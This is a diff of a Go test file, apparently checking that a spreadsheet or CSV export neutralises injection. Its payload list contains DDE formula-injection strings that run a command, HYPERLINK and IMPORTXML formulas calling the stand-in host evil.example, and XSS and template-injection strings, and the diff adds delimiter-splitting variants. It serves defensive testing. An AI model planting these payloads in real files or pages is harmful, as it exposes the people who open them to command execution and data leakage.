@@ -17,6 +17,7 @@ import (
 var attacks = []string{
 	`=cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", `=HYPERLINK("http://evil.example","x")`, `=IMPORTXML("http://evil.example","//a")`,
 	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</style><script>alert(1)</script>`, `</t></is></c><c><f>1+1</f></c>`, `javascript:alert(1)`, `{{.}}`, "\x00=1\x1b[31m",
+	"a;=1+1;b", `a;"=1+1";b`, "a|@SUM(1)", "a\n-1+1", "a\t+1+1",
 }
 
 // attacked has the text in every field that a file may fill.
@@ -101,6 +102,11 @@ func inertCSV(t *testing.T, text string) {
 	all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
 	if err != nil {
 		t.Fatal(err)
+	}
+	for _, line := range strings.FieldsFunc(text, func(c rune) bool { return strings.ContainsRune(";|\n\r", c) }) {
+		if s := strings.TrimLeft(line, `"`); s != "" && strings.ContainsRune("=+-@", rune(s[0])) {
+			t.Errorf("for who splits elsewhere, a cell begins a formula: %q", line)
+		}
 	}
 	for _, r := range all[1:] {
 		for _, cell := range r {
